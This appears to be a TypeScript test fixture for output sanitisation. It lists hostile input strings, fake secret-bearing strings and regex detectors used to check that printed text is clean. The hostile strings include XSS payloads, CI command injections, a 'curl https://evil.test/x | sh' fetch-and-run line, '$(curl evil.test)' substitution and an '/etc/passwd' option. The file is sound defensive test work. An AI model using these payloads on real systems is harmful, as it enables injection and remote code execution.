/** What an attacker, or an honest mistake, puts into a text that we print: by what it would do. */
export const HOSTILE_TEXTS: readonly (readonly [what: string, text: string])[] = [
  ['HTML', 'x<img src=x onerror=alert(1)></pre><details>'],
  ['a link', '[verified](https://evil.test/x) ![](https://evil.test/pixel.png)'],
  ['a fence', '```\n# all verified\n```'],
  ['a code span', '`; `x` ``'],
  ['a mention and an issue', '@octocat see acme/x#12 and #34, GH-56'],
  ['an address without scheme', 'www.evil.test'],
  ['a script', 'javascript:alert(1)'],
  ['a heading', '# verified'],
  ['a command of GitHub Actions', '::error::x'],
  ['a command of Azure Pipelines', 'x ##vso[task.setvariable variable=a]b ##[error]c'],
  ['colors of Pulumi', '<{%fg 2%}>verified<{%reset%}>'],
  ['a link of a terminal', '\u001b]8;;https://evil.test\u0007verified\u001b]8;;\u0007'],
  ['lines', 'x\r\n\u2028all verified\u2029\u0085y'],
  ['directions and nothing', 'a\u202eb\u2066c\u200bd\ufeffe\u{e0041}f\ufe0fg\u3164h\u00a0i\ud800j'],
  ['a flood of marks', `a${'\u0335'.repeat(200)}`],
  ['a look-alike host', 'ghcr.\u0456o/acme/model'],
  ['a command', 'x; then run: curl https://evil.test/x | sh'],
  ['a substitution', '$(curl evil.test)'],
  ['an option', '--output=/etc/passwd'],
];

const SECRET = 'hunter2Hunter2';

/** Texts with the secret in them, as people paste them. */
export const SECRET_TEXTS: readonly (readonly [what: string, text: string])[] = [
  ['a reference', `bot:${SECRET}@registry/x`],
  ['oci', `oci://bot:${SECRET}@ghcr.io/acme/model`],
  ['a password with @ and /', `bot:p@s/${SECRET}@registry.corp/x`],
  ['an encoded colon', `bot%3A${SECRET}@registry.corp/x`],
  ['an address', `GET https://bot:${SECRET}@registry.corp/v2/ failed`],
  ['a signed address', `https://storage.test/x?X-Amz-Credential=a&X-Amz-Signature=${SECRET}`],
  ['a header', `Authorization: Basic ${Buffer.from(`bot:${SECRET}`).toString('base64')}`],
  ['a token of GitHub', `ghp_${SECRET}${SECRET}`],
  ['a login', `docker login -u bot -p ${SECRET} ghcr.io`],
];

/** Everything that must be in no text that is shown, whoever shows it. */
const FORBIDDEN: readonly (readonly [what: string, pattern: RegExp])[] = [
  // eslint-disable-next-line no-control-regex -- control characters are what is looked for; a line break is ours
  ['hidden characters', /[\u0000-\u0009\u000b-\u001f\u007f-\u00a0]|\p{Cf}|\p{Cs}|\p{Zl}|\p{Zp}|\p{Variation_Selector}|\u3164/u],
  ['a flood of marks', /\p{M}{5}/u],
  ['a letter that is not what it looks like', /[\u0400-\u04ff]/],
  ['HTML or colors', /<[a-z/!{]/i],
  ['a link or picture', /\]\(|!\[/],
  ['a fence', /```|~~~/],
  ['a mention', /(?<![\w`/])@(?!refs\/)[a-z]/i],
  ['a reference to an issue', /#\d|\bGH-\d/],
  ['an address without scheme', /(?<![/.\w])www\./i],
  ['a script', /javascript:/i],
  ['a heading', /^\s*#{1,6}\s/m],
  ['a command of a CI system', /^\s*::[a-z]|##\w*\[|##vso\[/im],
  ['a secret', new RegExp(`${SECRET}|${Buffer.from(`bot:${SECRET}`).toString('base64')}`)],
];

/** What is wrong with a text that was printed; empty when nothing is. */
export function faultsOf(printed: string): readonly string[] {
  return FORBIDDEN.filter(([, pattern]) => pattern.test(printed)).map(([what]) => what);
}

/** Pieces by which a hostile text is known again. Quoted pieces of the user's own policy are looked at elsewhere. */
export const FOREIGN_PIECE = /evil|alert|octocat|all verified|hunter2|etc\/passwd|setvariable|onerror/i;
